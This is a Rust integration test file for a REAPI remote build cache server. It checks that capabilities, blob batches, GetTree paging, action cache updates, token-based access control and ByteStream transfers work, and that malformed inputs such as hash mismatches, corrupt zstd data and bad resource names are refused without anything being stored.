//! Every RPC through a real tonic client against a real server on loopback, including the
//! error statuses REAPI names and hostile input; after each hostile request the server must
//! keep serving and must not have stored anything unverified.

mod common;

use common::*;
use rba_cache_server::bytestream_route::grpc_message;
use rba_cache_server::resource_name::{self, Compressor};
use rba_cas::{Digest, DigestFunction};
use rba_proto::Message;
use rba_proto::bytestream::{QueryWriteStatusRequest, WriteRequest};
use rba_proto::error_details::StatusExt;
use rba_proto::reapi::{
    self, ActionResult, BatchReadBlobsRequest, BatchUpdateBlobsRequest, Directory, DirectoryNode,
    FileNode, FindMissingBlobsRequest, FindMissingBlobsResponse, GetActionResultRequest,
    GetCapabilitiesRequest, GetTreeRequest, OutputDirectory, OutputFile, Tree,
    UpdateActionResultRequest, batch_update_blobs_request, compressor, digest_function,
};
use tonic::Code;

const SHA: DigestFunction = DigestFunction::Sha256;
const B3: DigestFunction = DigestFunction::Blake3;

fn entry(digest: &Digest, data: &[u8], compressor: i32) -> batch_update_blobs_request::Request {
    batch_update_blobs_request::Request {
        digest: Some(digest.to_reapi()),
        data: data.to_vec(),
        compressor,
    }
}

fn wire(hash: &str, size: i64) -> reapi::Digest {
    reapi::Digest {
        hash: hash.into(),
        size_bytes: size,
    }
}

async fn still_serving(clients: &mut Clients) {
    let caps = clients
        .caps
        .get_capabilities(GetCapabilitiesRequest::default())
        .await;
    assert!(caps.is_ok(), "server must keep serving: {caps:?}");
}

#[tokio::test]
async fn capabilities_advertise_functions_compression_and_a_real_batch_limit() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let caps = c
        .caps
        .get_capabilities(GetCapabilitiesRequest {
            instance_name: "ci/linux".into(),
        })
        .await
        .unwrap()
        .into_inner();
    let cache = caps.cache_capabilities.unwrap();
    assert!(
        cache
            .digest_functions
            .contains(&(digest_function::Value::Sha256 as i32))
    );
    assert!(
        cache
            .digest_functions
            .contains(&(digest_function::Value::Blake3 as i32))
    );
    assert!(
        cache
            .supported_compressors
            .contains(&(compressor::Value::Zstd as i32))
    );
    assert!(
        cache
            .supported_batch_update_compressors
            .contains(&(compressor::Value::Zstd as i32))
    );
    assert!(
        cache
            .action_cache_update_capabilities
            .unwrap()
            .update_enabled
    );
    let limit = cache.max_batch_total_size_bytes;
    assert!(
        limit > 0 && limit < 4 << 20,
        "batch limit {limit} must fit the 4 MiB message limit"
    );
    let exec = caps.execution_capabilities.unwrap();
    assert!(!exec.exec_enabled);
    assert_eq!(caps.high_api_version.unwrap().minor, 3);

    // A batch of exactly the advertised size, built from 4 KiB blobs, is accepted…
    let blobs: Vec<Vec<u8>> = (0..(limit as usize / 4096))
        .map(|i| noise(4096, i as u64))
        .collect();
    let requests: Vec<_> = blobs
        .iter()
        .map(|b| entry(&SHA.digest_of(b), b, 0))
        .collect();
    let response = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert!(
        response
            .responses
            .iter()
            .all(|r| r.status.as_ref().unwrap().code == 0)
    );
    // …and read back in one batch that fits a default 4 MiB client.
    let mut default_client =
        reapi::content_addressable_storage_client::ContentAddressableStorageClient::new(
            server.channel().await,
        );
    let read = default_client
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: blobs.iter().map(|b| SHA.digest_of(b).to_reapi()).collect(),
            ..Default::default()
        })
        .await
        .expect("a batch within the advertised limit fits a default client")
        .into_inner();
    assert_eq!(read.responses.len(), blobs.len());
    // Sizes that add up past u64 (each at most i64::MAX) are over the limit, not a wrapped sum
    // that slips under it (or a panic in a debug build); the server goes on serving.
    let huge = reapi::Digest {
        hash: SHA.digest_of(b"huge").hash_hex(),
        size_bytes: i64::MAX,
    };
    let status = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: vec![huge.clone(), huge.clone(), huge.clone()],
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    assert!(
        status
            .message()
            .contains("exceeds max_batch_total_size_bytes"),
        "{status:?}"
    );
    let again = default_client
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: vec![SHA.digest_of(&blobs[0]).to_reapi()],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(again.responses[0].data, blobs[0]);

    let bad = c
        .caps
        .get_capabilities(GetCapabilitiesRequest {
            instance_name: "a/blobs/b".into(),
        })
        .await;
    assert_eq!(bad.unwrap_err().code(), Code::InvalidArgument);
}

#[tokio::test]
async fn find_missing_is_exact_per_function_and_refuses_malformed_digests() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let present = c.put("", SHA, b"present").await;
    let absent = SHA.digest_of(b"absent");
    let find = |digests: Vec<reapi::Digest>, function: i32| FindMissingBlobsRequest {
        instance_name: String::new(),
        blob_digests: digests,
        digest_function: function,
    };
    let missing = c
        .cas
        .find_missing_blobs(find(
            vec![
                present.to_reapi(),
                absent.to_reapi(),
                SHA.empty().to_reapi(),
            ],
            0,
        ))
        .await
        .unwrap()
        .into_inner()
        .missing_blob_digests;
    assert_eq!(missing, vec![absent.to_reapi()]);
    // The same hex under BLAKE3 is another blob.
    let missing = c
        .cas
        .find_missing_blobs(find(
            vec![present.to_reapi()],
            digest_function::Value::Blake3 as i32,
        ))
        .await
        .unwrap()
        .into_inner()
        .missing_blob_digests;
    assert_eq!(missing.len(), 1);
    // Large requests go through the blocking pool and stay exact.
    let many: Vec<_> = (0..500)
        .map(|i| SHA.digest_of(&noise(8, i)).to_reapi())
        .chain([present.to_reapi()])
        .collect();
    let missing = c
        .cas
        .find_missing_blobs(find(many, 0))
        .await
        .unwrap()
        .into_inner()
        .missing_blob_digests;
    assert_eq!(missing.len(), 500);

    for (digests, function, what) in [
        (vec![wire("zz", 1)], 0, "non-hex hash"),
        (vec![wire(&present.hash_hex(), -1)], 0, "negative size"),
        (
            vec![wire(&present.hash_hex()[..40], 7)],
            0,
            "sha1-length hash",
        ),
        (
            vec![wire(&present.hash_hex().to_uppercase(), 7)],
            0,
            "uppercase hash",
        ),
        (
            vec![present.to_reapi()],
            digest_function::Value::Sha1 as i32,
            "unsupported function",
        ),
        (vec![present.to_reapi()], 12345, "unknown function"),
    ] {
        let status = c
            .cas
            .find_missing_blobs(find(digests, function))
            .await
            .unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{what}: {status:?}");
    }
    still_serving(&mut c).await;
}

#[tokio::test]
async fn batch_update_and_read_round_trip_with_compression_and_per_blob_errors() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let text =
        b"hello hello hello hello hello hello hello hello hello hello hello hello hello".repeat(20);
    let small = b"tiny".to_vec();
    let sha_text = SHA.digest_of(&text);
    let b3_small = B3.digest_of(&small);
    let zstd_text = zstd::bulk::compress(&text, 3).unwrap();

    let update = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            instance_name: "main".into(),
            requests: vec![entry(&sha_text, &zstd_text, compressor::Value::Zstd as i32)],
            digest_function: 0,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(update.responses[0].status.as_ref().unwrap().code, 0);
    assert_eq!(update.responses[0].digest, Some(sha_text.to_reapi()));
    c.put("main", B3, &small).await;

    // Identity read.
    let read = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            instance_name: "main".into(),
            digests: vec![sha_text.to_reapi(), SHA.digest_of(b"nope").to_reapi()],
            acceptable_compressors: vec![],
            digest_function: 0,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(read.responses[0].data, text);
    assert_eq!(read.responses[0].compressor, 0);
    assert_eq!(
        read.responses[1].status.as_ref().unwrap().code,
        Code::NotFound as i32
    );
    // zstd accepted: the server compresses.
    let read = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            instance_name: "main".into(),
            digests: vec![sha_text.to_reapi()],
            acceptable_compressors: vec![compressor::Value::Zstd as i32],
            digest_function: 0,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(read.responses[0].compressor, compressor::Value::Zstd as i32);
    assert_eq!(
        zstd::decode_all(read.responses[0].data.as_slice()).unwrap(),
        text
    );
    // BLAKE3.
    let read = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: vec![b3_small.to_reapi()],
            digest_function: digest_function::Value::Blake3 as i32,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(read.responses[0].data, small);

    // Hostile entries: each refused on its own, nothing stored.
    let lie = SHA.digest_of(b"the truth");
    let bomb_target = SHA.digest_of(&[0u8; 100]);
    let bomb = zstd::bulk::compress(&vec![0u8; 10 << 20], 3).unwrap();
    let good = b"good blob".to_vec();
    let good_digest = SHA.digest_of(&good);
    let response = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![
                entry(&lie, b"the lies!", 0),          // same size, wrong hash
                entry(&lie, b"the truth and more", 0), // size lie
                entry(&lie, b"the trut", 0),           // short
                batch_update_blobs_request::Request {
                    digest: Some(wire("xyz", 3)),
                    data: b"abc".to_vec(),
                    compressor: 0,
                },
                batch_update_blobs_request::Request {
                    digest: None,
                    data: b"abc".to_vec(),
                    compressor: 0,
                },
                entry(&lie, b"not zstd at all", compressor::Value::Zstd as i32), // corrupt zstd
                entry(&bomb_target, &bomb, compressor::Value::Zstd as i32), // decompresses past its size
                entry(&lie, b"the truth", compressor::Value::Deflate as i32), // unsupported compressor
                entry(&good_digest, &good, 0),
                entry(&sha_text, b"present already, but wrong data", 0), // present: still verified
            ],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    let codes: Vec<i32> = response
        .responses
        .iter()
        .map(|r| r.status.as_ref().unwrap().code)
        .collect();
    let invalid = Code::InvalidArgument as i32;
    assert_eq!(
        codes,
        vec![
            invalid, invalid, invalid, invalid, invalid, invalid, invalid, invalid, 0, invalid
        ]
    );
    // The refusal names the blob it refuses (the wrong hash, and the present blob's liar).
    for (index, digest) in [(0, lie), (9, sha_text)] {
        let message = &response.responses[index].status.as_ref().unwrap().message;
        assert!(message.contains(&digest.hash_hex()), "{message}");
    }
    let missing = c
        .cas
        .find_missing_blobs(FindMissingBlobsRequest {
            blob_digests: vec![
                lie.to_reapi(),
                bomb_target.to_reapi(),
                good_digest.to_reapi(),
            ],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .missing_blob_digests;
    assert_eq!(missing, vec![lie.to_reapi(), bomb_target.to_reapi()]);
    assert_eq!(
        temp_files(server.dir.path()),
        0,
        "refused uploads leave no temp files"
    );

    // Over the advertised batch limit: INVALID_ARGUMENT for the whole call.
    let big = noise(4 << 20, 7);
    let status = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![entry(&SHA.digest_of(&big), &big, 0)],
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    let status = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: vec![wire(&sha_text.hash_hex(), 100 << 20)],
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    // Over the server's gRPC message limit: refused by the transport, server unharmed.
    let huge = noise(9 << 20, 8);
    let status = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![entry(&SHA.digest_of(&huge), &huge, 0)],
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert!(
        matches!(
            status.code(),
            Code::ResourceExhausted | Code::OutOfRange | Code::InvalidArgument
        ),
        "{status:?}"
    );
    // Unknown digest function.
    let status = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![entry(&good_digest, &good, 0)],
            digest_function: 77,
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    still_serving(&mut c).await;
}

fn dir_bytes(directory: &Directory) -> (Digest, Vec<u8>) {
    let bytes = directory.encode_to_vec();
    (SHA.digest_of(&bytes), bytes)
}

#[tokio::test]
async fn get_tree_pages_resumes_and_omits_missing_subtrees() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    // root -> d0..d9, each d_i -> e_i0..e_i2 (40 directories + root), plus one missing child.
    let mut level1 = Vec::new();
    let mut uploads = Vec::new();
    for i in 0..10 {
        let mut children = Vec::new();
        for j in 0..3 {
            let leaf = Directory {
                files: vec![FileNode {
                    name: format!("f{i}{j}"),
                    digest: Some(SHA.digest_of(&[i, j]).to_reapi()),
                    ..Default::default()
                }],
                ..Default::default()
            };
            let (digest, bytes) = dir_bytes(&leaf);
            uploads.push((digest, bytes));
            children.push(DirectoryNode {
                name: format!("e{j}"),
                digest: Some(digest.to_reapi()),
            });
        }
        let dir = Directory {
            directories: children,
            ..Default::default()
        };
        let (digest, bytes) = dir_bytes(&dir);
        uploads.push((digest, bytes));
        level1.push(DirectoryNode {
            name: format!("d{i}"),
            digest: Some(digest.to_reapi()),
        });
    }
    let missing_child = SHA.digest_of(b"never uploaded");
    level1.push(DirectoryNode {
        name: "zz".into(),
        digest: Some(missing_child.to_reapi()),
    });
    // A duplicate subtree is returned once.
    level1.push(DirectoryNode {
        name: "dup".into(),
        digest: level1[0].digest.clone(),
    });
    let root = Directory {
        directories: level1,
        ..Default::default()
    };
    let (root_digest, root_bytes) = dir_bytes(&root);
    uploads.push((root_digest, root_bytes));
    let requests: Vec<_> = uploads.iter().map(|(d, b)| entry(d, b, 0)).collect();
    c.cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests,
            ..Default::default()
        })
        .await
        .unwrap();

    let get = |page_size: i32, page_token: String| GetTreeRequest {
        instance_name: String::new(),
        root_digest: Some(root_digest.to_reapi()),
        page_size,
        page_token,
        digest_function: 0,
    };
    let mut stream = c
        .cas
        .get_tree(get(7, String::new()))
        .await
        .unwrap()
        .into_inner();
    let mut all = Vec::new();
    let mut tokens = Vec::new();
    while let Some(page) = stream.message().await.unwrap() {
        assert!(page.directories.len() <= 7);
        all.extend(page.directories);
        tokens.push(page.next_page_token);
    }
    assert_eq!(
        all.len(),
        41,
        "root + 10 + 30, missing omitted, duplicate once"
    );
    assert_eq!(all[0], root);
    assert_eq!(tokens.last().unwrap(), "", "last page has no token");
    // Resume from the third page's token: the rest, identical.
    let token = tokens[2].clone();
    let mut stream = c.cas.get_tree(get(7, token)).await.unwrap().into_inner();
    let mut rest = Vec::new();
    while let Some(page) = stream.message().await.unwrap() {
        rest.extend(page.directories);
    }
    assert_eq!(rest, all[21..].to_vec());

    let status = c
        .cas
        .get_tree(GetTreeRequest {
            root_digest: Some(missing_child.to_reapi()),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::NotFound);
    let status = c.cas.get_tree(get(7, "garbage".into())).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let status = c.cas.get_tree(GetTreeRequest::default()).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "missing root digest");
    still_serving(&mut c).await;
}

fn action_result(
    outputs: &[(&str, Digest)],
    tree: Option<Digest>,
    stdout: Option<Digest>,
) -> ActionResult {
    ActionResult {
        output_files: outputs
            .iter()
            .map(|(path, digest)| OutputFile {
                path: path.to_string(),
                digest: Some(digest.to_reapi()),
                ..Default::default()
            })
            .collect(),
        output_directories: tree
            .map(|t| OutputDirectory {
                path: "outdir".into(),
                tree_digest: Some(t.to_reapi()),
                ..Default::default()
            })
            .into_iter()
            .collect(),
        stdout_digest: stdout.map(|d| d.to_reapi()),
        exit_code: 0,
        ..Default::default()
    }
}

#[tokio::test]
async fn action_cache_checks_completeness_inlines_and_separates_instances() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let action = SHA.digest_of(b"action");
    let out = SHA.digest_of(b"output bytes");
    let inner = SHA.digest_of(b"file inside the tree");
    let stdout = SHA.digest_of(b"compiler says hi\n");
    let tree = Tree {
        root: Some(Directory {
            files: vec![FileNode {
                name: "inner".into(),
                digest: Some(inner.to_reapi()),
                ..Default::default()
            }],
            ..Default::default()
        }),
        children: vec![],
    };
    let tree_bytes = tree.encode_to_vec();
    let tree_digest = SHA.digest_of(&tree_bytes);
    let result = action_result(&[("out.bin", out)], Some(tree_digest), Some(stdout));
    let update = |instance: &str, result: ActionResult| UpdateActionResultRequest {
        instance_name: instance.into(),
        action_digest: Some(action.to_reapi()),
        action_result: Some(result),
        ..Default::default()
    };

    // Nothing uploaded yet: FAILED_PRECONDITION naming the tree.
    let status =
        c.ac.update_action_result(update("ci/linux", result.clone()))
            .await
            .unwrap_err();
    assert_eq!(status.code(), Code::FailedPrecondition);
    let violations = status
        .get_details_precondition_failure()
        .expect("PreconditionFailure detail")
        .violations;
    assert_eq!(violations[0].r#type, "MISSING");
    assert_eq!(
        violations[0].subject,
        format!("blobs/{}/{}", tree_digest.hash_hex(), tree_digest.size)
    );
    // Tree present, its file and the others missing: all listed.
    c.put("", SHA, &tree_bytes).await;
    let status =
        c.ac.update_action_result(update("ci/linux", result.clone()))
            .await
            .unwrap_err();
    let subjects: Vec<String> = status
        .get_details_precondition_failure()
        .unwrap()
        .violations
        .into_iter()
        .map(|v| v.subject)
        .collect();
    assert_eq!(subjects.len(), 3, "{subjects:?}");
    for digest in [out, inner, stdout] {
        assert!(subjects.contains(&format!("blobs/{}/{}", digest.hash_hex(), digest.size)));
    }
    assert_eq!(
        c.ac.get_action_result(GetActionResultRequest {
            instance_name: "ci/linux".into(),
            action_digest: Some(action.to_reapi()),
            ..Default::default()
        })
        .await
        .unwrap_err()
        .code(),
        Code::NotFound,
        "a refused update stores nothing"
    );

    c.put("", SHA, b"output bytes").await;
    c.put("", SHA, b"file inside the tree").await;
    c.put("", SHA, b"compiler says hi\n").await;
    let stored =
        c.ac.update_action_result(update("ci/linux", result.clone()))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(stored, result);

    let get = |instance: &str| GetActionResultRequest {
        instance_name: instance.into(),
        action_digest: Some(action.to_reapi()),
        inline_stdout: true,
        inline_stderr: true,
        inline_output_files: vec!["out.bin".into()],
        digest_function: 0,
    };
    let hit =
        c.ac.get_action_result(get("ci/linux"))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(hit.stdout_raw, b"compiler says hi\n");
    assert_eq!(hit.output_files[0].contents, b"output bytes");
    let plain =
        c.ac.get_action_result(GetActionResultRequest {
            instance_name: "ci/linux".into(),
            action_digest: Some(action.to_reapi()),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(plain, result, "nothing inlined unless asked");
    // Other instance: separate action cache.
    assert_eq!(
        c.ac.get_action_result(get("ci/mac"))
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    assert_eq!(
        c.ac.get_action_result(get("")).await.unwrap_err().code(),
        Code::NotFound
    );

    // An output vanishes from disk: no more hit.
    std::fs::remove_file(server.blobs().blob_path(&inner)).unwrap();
    assert_eq!(
        c.ac.get_action_result(get("ci/linux"))
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );

    // Inline contents in an update are verified and moved into the CAS.
    let inline_result = ActionResult {
        output_files: vec![OutputFile {
            path: "x".into(),
            contents: b"inline file".to_vec(),
            ..Default::default()
        }],
        stdout_raw: b"inline stdout".to_vec(),
        ..Default::default()
    };
    let action2 = SHA.digest_of(b"action2");
    let stored =
        c.ac.update_action_result(UpdateActionResultRequest {
            action_digest: Some(action2.to_reapi()),
            action_result: Some(inline_result),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        stored.output_files[0].digest,
        Some(SHA.digest_of(b"inline file").to_reapi())
    );
    assert!(stored.output_files[0].contents.is_empty());
    assert_eq!(
        stored.stdout_digest,
        Some(SHA.digest_of(b"inline stdout").to_reapi())
    );
    let lying = ActionResult {
        output_files: vec![OutputFile {
            path: "x".into(),
            contents: b"inline file".to_vec(),
            digest: Some(SHA.digest_of(b"something else").to_reapi()),
            ..Default::default()
        }],
        ..Default::default()
    };
    let status =
        c.ac.update_action_result(UpdateActionResultRequest {
            action_digest: Some(action2.to_reapi()),
            action_result: Some(lying),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);

    // Malformed requests.
    let status =
        c.ac.get_action_result(GetActionResultRequest::default())
            .await
            .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let status =
        c.ac.update_action_result(UpdateActionResultRequest {
            action_digest: Some(action.to_reapi()),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let status =
        c.ac.get_action_result(GetActionResultRequest {
            action_digest: Some(wire("abc", 1)),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let mut bad_output = result.clone();
    bad_output.output_files[0].digest = Some(wire("not-a-hash", 3));
    let status =
        c.ac.update_action_result(update("", bad_output))
            .await
            .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    still_serving(&mut c).await;
}

#[tokio::test]
async fn tokens_gate_reads_and_action_cache_writes() {
    // `ro` sees `rw`'s tenant, so it is served the result `rw` stores.
    let server = TestServer::start_with(|config| {
        let mut config = with_tokens(config);
        config.auth.tokens[1].tenants = vec!["token:rw".into()];
        config
    })
    .await;
    let channel = server.channel().await;
    let mut c = Clients::new(channel);
    let caps = GetCapabilitiesRequest::default();
    assert_eq!(
        c.caps
            .get_capabilities(caps.clone())
            .await
            .unwrap_err()
            .code(),
        Code::Unauthenticated
    );
    assert_eq!(
        c.caps
            .get_capabilities(bearer(caps.clone(), "wrong-token-xyz"))
            .await
            .unwrap_err()
            .code(),
        Code::Unauthenticated
    );
    let ro = c
        .caps
        .get_capabilities(bearer(caps.clone(), RO_TOKEN))
        .await
        .unwrap()
        .into_inner();
    assert!(
        !ro.cache_capabilities
            .unwrap()
            .action_cache_update_capabilities
            .unwrap()
            .update_enabled
    );
    let rw = c
        .caps
        .get_capabilities(bearer(caps, RW_TOKEN))
        .await
        .unwrap()
        .into_inner();
    assert!(
        rw.cache_capabilities
            .unwrap()
            .action_cache_update_capabilities
            .unwrap()
            .update_enabled
    );

    let data = b"built by ci".to_vec();
    let digest = SHA.digest_of(&data);
    let upload = BatchUpdateBlobsRequest {
        requests: vec![entry(&digest, &data, 0)],
        ..Default::default()
    };
    assert_eq!(
        c.cas
            .batch_update_blobs(upload.clone())
            .await
            .unwrap_err()
            .code(),
        Code::Unauthenticated
    );
    // Read-only clients may upload (verified) blobs…
    let response = c
        .cas
        .batch_update_blobs(bearer(upload, RO_TOKEN))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(response.responses[0].status.as_ref().unwrap().code, 0);
    // …but never action results.
    let action = SHA.digest_of(b"an action");
    let update = UpdateActionResultRequest {
        action_digest: Some(action.to_reapi()),
        action_result: Some(action_result(&[("out", digest)], None, None)),
        ..Default::default()
    };
    assert_eq!(
        c.ac.update_action_result(bearer(update.clone(), RO_TOKEN))
            .await
            .unwrap_err()
            .code(),
        Code::PermissionDenied
    );
    assert_eq!(
        c.ac.update_action_result(update.clone())
            .await
            .unwrap_err()
            .code(),
        Code::Unauthenticated
    );
    // A result names only blobs its writer may read: `rw` proves it holds the output.
    c.cas
        .batch_update_blobs(bearer(
            BatchUpdateBlobsRequest {
                requests: vec![entry(&digest, &data, 0)],
                ..Default::default()
            },
            RW_TOKEN,
        ))
        .await
        .unwrap();
    c.ac.update_action_result(bearer(update, RW_TOKEN))
        .await
        .unwrap();
    let get = GetActionResultRequest {
        action_digest: Some(action.to_reapi()),
        ..Default::default()
    };
    assert!(
        c.ac.get_action_result(bearer(get.clone(), RO_TOKEN))
            .await
            .is_ok()
    );
    assert_eq!(
        c.ac.get_action_result(get).await.unwrap_err().code(),
        Code::Unauthenticated
    );
    let name = resource_name::read_name("", &digest, Compressor::Identity);
    let read =
        c.bs.read(bearer(
            rba_proto::bytestream::ReadRequest {
                resource_name: name.clone(),
                read_offset: 0,
                read_limit: 0,
            },
            RO_TOKEN,
        ))
        .await;
    assert!(read.is_ok());
    assert_eq!(
        c.read(&name, 0, 0).await.unwrap_err().code(),
        Code::Unauthenticated
    );
}

#[tokio::test]
async fn read_only_clients_can_be_kept_from_uploading() {
    let server = TestServer::start_with(|config| {
        let mut config = with_tokens(config);
        config.auth.read_only_may_write_cas = false;
        config
    })
    .await;
    let mut c = server.clients().await;
    let digest = SHA.digest_of(b"x");
    let upload = BatchUpdateBlobsRequest {
        requests: vec![entry(&digest, b"x", 0)],
        ..Default::default()
    };
    assert_eq!(
        c.cas
            .batch_update_blobs(bearer(upload.clone(), RO_TOKEN))
            .await
            .unwrap_err()
            .code(),
        Code::PermissionDenied
    );
    let name = resource_name::write_name("", "u", &digest, Compressor::Identity);
    let requests = write_requests(&name, b"x", 0, 1, true);
    let status =
        c.bs.write(bearer(tokio_stream::iter(requests), RO_TOKEN))
            .await
            .unwrap_err();
    assert_eq!(status.code(), Code::PermissionDenied);
    assert!(
        c.cas
            .batch_update_blobs(bearer(upload, RW_TOKEN))
            .await
            .is_ok()
    );
}

#[tokio::test]
async fn bytestream_reads_and_writes_all_resource_name_forms() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let data = noise(3 << 20, 1);
    for (instance, function, compressor) in [
        ("", SHA, Compressor::Identity),
        ("ci/linux/x86", SHA, Compressor::Zstd),
        ("main", B3, Compressor::Identity),
        ("", B3, Compressor::Zstd),
    ] {
        let mut data = data.clone();
        data[0] = function as u8 + compressor as u8 * 2; // distinct blobs
        let digest = function.digest_of(&data);
        let wire = match compressor {
            Compressor::Identity => data.clone(),
            Compressor::Zstd => zstd::bulk::compress(&data, 1).unwrap(),
        };
        let committed = c
            .write(instance, &digest, &wire, compressor, 100_000)
            .await
            .unwrap();
        assert_eq!(committed, wire.len() as i64);
        // Write again: already present, the call ends at once.
        let again = c
            .write(instance, &digest, &wire, compressor, 100_000)
            .await
            .unwrap();
        assert_eq!(
            again,
            if compressor == Compressor::Zstd {
                -1
            } else {
                digest.size as i64
            }
        );
        let name = resource_name::read_name(instance, &digest, Compressor::Identity);
        assert_eq!(c.read(&name, 0, 0).await.unwrap(), data);
        assert_eq!(c.read(&name, 1000, 5000).await.unwrap(), &data[1000..6000]);
        assert_eq!(
            c.read(&name, data.len() as i64 - 10, 0).await.unwrap(),
            &data[data.len() - 10..]
        );
        assert_eq!(c.read(&name, data.len() as i64, 0).await.unwrap(), b"");
        let compressed = c
            .read(
                &resource_name::read_name(instance, &digest, Compressor::Zstd),
                0,
                0,
            )
            .await
            .unwrap();
        assert_eq!(zstd::decode_all(compressed.as_slice()).unwrap(), data);
        // Compressed reads with offset/limit address the compressed stream.
        let part = c
            .read(
                &resource_name::read_name(instance, &digest, Compressor::Zstd),
                10,
                100,
            )
            .await
            .unwrap();
        assert_eq!(part, &compressed[10..110]);
    }
    // The v2.3 form with an explicit sha256 segment and trailing metadata also works.
    let digest = c.put("", SHA, b"explicit").await;
    let name = format!(
        "blobs/sha256/{}/{}/some/metadata",
        digest.hash_hex(),
        digest.size
    );
    assert_eq!(c.read(&name, 0, 0).await.unwrap(), b"explicit");
}

#[tokio::test]
async fn bytestream_refuses_hostile_reads_and_writes_and_stores_nothing() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let data = noise(300_000, 2);
    let digest = SHA.digest_of(&data);
    let hash = digest.hash_hex();

    // Reads.
    let missing = resource_name::read_name("", &SHA.digest_of(b"missing"), Compressor::Identity);
    assert_eq!(
        c.read(&missing, 0, 0).await.unwrap_err().code(),
        Code::NotFound
    );
    for name in [
        format!("blobs/{hash}"),
        format!("blobs/{hash}/-5"),
        format!("blobs/sha1/{}/5", &hash[..40]),
        format!("blobs/{}/5", &hash[..40]),
        format!("compressed-blobs/brotli/{hash}/5"),
        format!("a//b/blobs/{hash}/5"),
        "operations/xyz".to_string(),
        String::new(),
        "x".repeat(100_000),
    ] {
        assert_eq!(
            c.read(&name, 0, 0).await.unwrap_err().code(),
            Code::InvalidArgument,
            "{:.80}",
            name
        );
    }
    let present = c.put("", SHA, b"0123456789").await;
    let name = resource_name::read_name("", &present, Compressor::Identity);
    assert_eq!(
        c.read(&name, 11, 0).await.unwrap_err().code(),
        Code::OutOfRange
    );
    assert_eq!(
        c.read(&name, -1, 0).await.unwrap_err().code(),
        Code::OutOfRange
    );
    assert_eq!(
        c.read(&name, 0, -1).await.unwrap_err().code(),
        Code::InvalidArgument
    );

    // Writes.
    let upload = |uuid: &str| resource_name::write_name("", uuid, &digest, Compressor::Identity);
    let mut evil = data.clone();
    evil[150_000] ^= 1;
    let status = c
        .write_named(&upload("a"), &evil, 65_536, true)
        .await
        .unwrap_err();
    assert_eq!(
        status.code(),
        Code::InvalidArgument,
        "hash mismatch: {status:?}"
    );
    let mut longer = data.clone();
    longer.extend_from_slice(b"extra");
    let status = c
        .write_named(&upload("b"), &longer, 65_536, true)
        .await
        .unwrap_err();
    assert_eq!(
        status.code(),
        Code::InvalidArgument,
        "more bytes than the size: {status:?}"
    );
    let status = c
        .write_named(&upload("c"), &data[..1000], 500, true)
        .await
        .unwrap_err();
    assert_eq!(
        status.code(),
        Code::InvalidArgument,
        "fewer bytes than the size: {status:?}"
    );
    // Offsets that skip or repeat data.
    let mut requests = write_requests(&upload("d"), &data, 0, 65_536, true);
    requests[2].write_offset += 1;
    let status = c.bs.write(tokio_stream::iter(requests)).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    // Resource name switched mid-stream.
    let mut requests = write_requests(&upload("e"), &data, 0, 65_536, true);
    requests[1].resource_name =
        resource_name::write_name("", "e", &SHA.digest_of(b"other"), Compressor::Identity);
